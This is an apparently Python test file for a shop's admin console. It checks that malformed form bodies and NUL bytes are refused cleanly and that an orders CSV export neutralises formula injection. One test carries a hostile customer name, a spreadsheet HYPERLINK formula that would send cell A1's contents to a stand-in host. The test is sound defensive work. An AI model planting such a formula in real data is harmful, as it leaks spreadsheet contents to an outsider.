"""Hostile input at the console: 4xx with one short log line, never a 500 or a stored NUL;
the orders CSV cannot carry a live spreadsheet formula from a customer's name."""

from __future__ import annotations

import csv
import io
import logging

import pytest

from tests.admin.conftest import Console

STAFF = "staff@ocop.vn"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


@pytest.mark.parametrize(
    "body",
    [
        b"email=\xff\xfe&password=%ff&csrf=x",  # bytes that are not UTF-8: was a 500
        b"email=an%00h%40ocop.vn&password=x&csrf=x",  # a NUL (PostgreSQL refuses it)
        b"email=a%1bb&password=x&csrf=x",  # an escape character
    ],
)
async def test_a_sign_in_form_that_cannot_be_read_is_a_400_with_one_log_line(
    console: Console, body: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    response = await console.client.post("/admin/login", data=body, headers=FORM)
    assert response.status == 400
    assert "gõ lại" in await response.text()  # said in Vietnamese, the console's default
    lines = [r for r in caplog.records if r.name.startswith(("bot", "aiohttp.server"))]
    assert len(lines) == 1 and "refused" in lines[0].getMessage()
    assert lines[0].levelno < logging.ERROR and not lines[0].exc_info


async def test_signed_in_staff_get_a_400_for_a_nul_and_a_404_for_an_id_past_sql(
    console: Console,
) -> None:
    await console.add(STAFF, role="staff")
    await console.sign_in(STAFF)
    assert (await console.client.get("/admin/orders?producer=quy%00hoa")).status == 400
    assert (await console.client.get("/admin/catalog?q=n%C6%B0%E1%BB%9Bc%00")).status == 400
    assert (await console.client.get("/admin/orders/99999999999999999999")).status == 404
    assert (await console.client.get("/admin/inbox/4294967296/messages")).status == 404
    # Ordinary Vietnamese still goes through.
    assert (await console.client.get("/admin/catalog?q=nước mắm")).status == 200


async def test_the_orders_csv_escapes_a_name_that_would_run_as_a_formula(
    console: Console,
) -> None:
    from catalog.orders import CartLine, Contact, Customer, Delivery, OrderService

    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    async with console.sessions() as session, session.begin():
        await OrderService(session).place(
            Customer("web:khach-xau"),
            [CartLine("nuoc-mam-cai-rong", 1)],
            Contact(hostile, "0912345678"),
            Delivery("delivery", address="3 Cao Thắng, Hạ Long"),
            None,
            "key-formula",
        )
    await console.add(STAFF, role="staff")
    await console.sign_in(STAFF)
    exported = await console.client.get("/admin/orders.csv")
    rows = list(csv.reader(io.StringIO((await exported.read()).decode("utf-8-sig"))))
    assert rows[1][rows[0].index("customer")] == "'" + hostile
